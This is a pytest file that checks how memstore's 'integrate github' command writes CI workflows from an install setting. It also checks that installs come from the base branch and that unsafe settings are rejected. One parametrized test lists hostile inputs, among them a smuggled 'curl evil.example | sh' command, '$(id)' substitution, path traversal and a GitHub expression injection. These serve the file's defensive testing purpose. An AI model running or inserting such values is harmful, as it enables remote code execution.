"""`integrate github`: how its workflows install memstore is the `github.install` setting (a pip
requirement, a URL or a path in the repository), so the review runs before a release is on the
package index; a path is installed from the base branch, never from the pull request."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from conftest import CliResult

from memstore.verbs import workflow

WF = Path(".github") / "workflows"


def _integrate(repo: Path, cli: Callable[..., CliResult], setting: str | None) -> tuple[int, object, str]:
    if setting is not None:
        with (repo / ".memory" / "config.yaml").open("a", encoding="utf-8") as f:
            f.write(f"github:\n  install: {setting}\n")
    return cli("integrate", "github", cwd=repo)


def _jobs(repo: Path) -> dict[str, dict]:
    jobs: dict[str, dict] = {}
    for name in ("memstore-review.yml", "memstore-review-post.yml"):
        jobs.update(yaml.safe_load((repo / WF / name).read_text())["jobs"])
    return jobs


def _installs(job: dict) -> list[str]:
    return [s["run"] for s in job["steps"] if s.get("name") == "Install memstore"]


def test_by_default_the_workflows_install_this_release(repo: Path, cli: Callable[..., CliResult]) -> None:
    code, _, err = _integrate(repo, cli, None)
    assert code == 0, err
    jobs = _jobs(repo)
    for job in jobs.values():
        assert _installs(job) == [f'python -m pip install "{workflow.DIST_NAME}=={workflow._version()}"']
    assert workflow.INSTALL_DIR not in (repo / WF / "memstore-review-post.yml").read_text()


def test_a_path_is_installed_from_the_base_branch_never_the_pull_request(
        repo: Path, cli: Callable[..., CliResult]) -> None:
    code, _, err = _integrate(repo, cli, ".")
    assert code == 0, err
    jobs = _jobs(repo)
    for name, job in jobs.items():
        assert _installs(job) == [f'python -m pip install "./{workflow.INSTALL_DIR}"'], name
        (source,) = [s for s in job["steps"] if s.get("with", {}).get("path") == workflow.INSTALL_DIR]
        assert source["uses"].startswith("actions/checkout@") and source["with"]["persist-credentials"] is False
        assert job["steps"].index(source) < next(i for i, s in enumerate(job["steps"])
                                                 if s.get("name") == "Install memstore")
    review_source = next(s for s in jobs["review"]["steps"] if s.get("with", {}).get("path") == workflow.INSTALL_DIR)
    assert review_source["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    post_source = next(s for s in jobs["post"]["steps"] if s.get("with", {}).get("path") == workflow.INSTALL_DIR)
    assert post_source["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    assert jobs["post"]["permissions"] == {"actions": "read", "pull-requests": "write", "contents": "read"}
    for tool, args in (("zizmor", ["--offline", "--persona", "pedantic"]), ("actionlint", [])):
        found = shutil.which(tool) or shutil.which(tool, path=str(Path(sys.executable).parent))
        if found:  # the test extra; the structure above holds without it
            proc = subprocess.run([found, *args, *map(str, sorted((repo / WF).glob("*.yml")))],
                                  capture_output=True, text=True, check=False)
            assert proc.returncode == 0, proc.stdout + proc.stderr


def test_a_requirement_or_url_is_installed_as_given(repo: Path, cli: Callable[..., CliResult]) -> None:
    url = "git+https://github.com/acme/memstore@0123abcd"
    code, _, err = _integrate(repo, cli, url)
    assert code == 0, err
    assert all(_installs(job) == [f'python -m pip install "{url}"'] for job in _jobs(repo).values())
    assert "actions/checkout" not in (repo / WF / "memstore-review-post.yml").read_text()


@pytest.mark.parametrize("bad", ['"memstore-git; curl evil.example | sh"', '"$(id)"', "../elsewhere", '"a b"',
                                 "'${{ github.event.pull_request.title }}'"])
def test_an_install_setting_that_could_run_anything_is_refused_and_nothing_written(
        repo: Path, cli: Callable[..., CliResult], bad: str) -> None:
    code, out, err = _integrate(repo, cli, bad)
    assert code == 2 and out["error"]["code"] == "bad_config" and "github.install" in err
    assert not (repo / ".github").exists()
    assert not re.search(r"memstore-review", str(list(repo.rglob("*.yml"))))
